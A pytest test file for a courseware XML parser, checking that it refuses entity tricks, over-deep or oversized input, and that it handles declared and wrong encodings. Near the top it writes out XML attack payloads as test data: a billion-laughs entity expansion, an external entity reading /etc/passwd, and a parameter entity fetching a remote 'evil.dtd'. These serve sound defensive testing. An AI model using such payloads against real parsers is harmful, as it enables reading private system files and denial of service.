import pytest

from innesto.courseware.markup import parse
from innesto.courseware.package import Unreadable

LAUGHS = """<?xml version="1.0"?><!DOCTYPE m [
<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><m>&c;</m>"""
OUTSIDE = """<?xml version="1.0"?><!DOCTYPE m [
<!ENTITY secret SYSTEM "file:///etc/passwd">]><m>&secret;</m>"""
PARAMETER = (
    """<?xml version="1.0"?><!DOCTYPE m [<!ENTITY % p SYSTEM "http://x/evil.dtd"> %p;]><m/>"""
)


def refusal(content):
    """Return why XML is given up, and at which line."""
    with pytest.raises(Unreadable) as given_up:
        parse(content.encode() if isinstance(content, str) else content, "m.xml", [])
    return given_up.value.problem.code, given_up.value.problem.line


@pytest.mark.parametrize("content", [LAUGHS, OUTSIDE, PARAMETER])
def test_entities_are_refused(content):
    assert refusal(content)[0] == "entities"


def test_a_doctype_alone_is_harmless_and_never_fetched():
    content = b'<!DOCTYPE m SYSTEM "http://nowhere.invalid/m.dtd"><m>a&nbsp;b</m>'

    assert parse(content, "m.xml", []).tag == "m"


def test_broken_xml_is_told_with_its_line():
    assert refusal("<m>\n<a>\n</m>") == ("not_well_formed", 3)


def test_xml_that_is_too_deep_is_refused():
    assert refusal("<a>" * 200 + "</a>" * 200)[0] == "too_deep"


def test_xml_that_is_too_large_is_refused():
    assert refusal(b"<a>" + bytes(20_000_001))[0] == "huge_file"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
def test_the_encoding_is_seen_whatever_it_says(encoding):
    problems = []

    root = parse('<?xml version="1.0"?><m>Città</m>'.encode(encoding), "m.xml", problems)

    assert (root.words, problems) == ("Città", [])


@pytest.mark.parametrize("encoding", ["windows-1252", "iso-8859-1", "ISO-8859-15"])
def test_an_old_encoding_is_read_as_declared(encoding):
    content = f'<?xml version="1.0" encoding="{encoding}"?><m>Città</m>'.encode(encoding)
    problems = []

    assert (parse(content, "m.xml", problems).words, problems) == ("Città", [])


@pytest.mark.parametrize("told", ["utf-8", "utf-7", "klingon", "zip"])
def test_a_wrong_encoding_is_told_and_read_all_the_same(told):
    content = f'<?xml version="1.0" encoding="{told}"?><m>Città</m>'.encode("cp1252")
    problems = []

    assert parse(content, "m.xml", problems).words == "Città"
    assert [(p.code, dict(p.values)) for p in problems] == [
        ("wrong_encoding", {"told": told, "is": "cp1252"})
    ]


def test_blanks_and_odd_signs_are_overlooked_and_told():
    problems = []

    root = parse(b'\n<?xml version="1.0"?><m>a\x01b</m>', "m.xml", problems)

    assert (root.words, [p.code for p in problems]) == ("a b", ["blank_before", "odd_signs"])


def test_an_element_is_written_as_html_again():
    root = parse(b'<m><p class="x">a &amp; <b>b</b><br/></p></m>', "m.xml", [])

    assert root.inside == '<p class="x">a &amp; <b>b</b><br></p>'
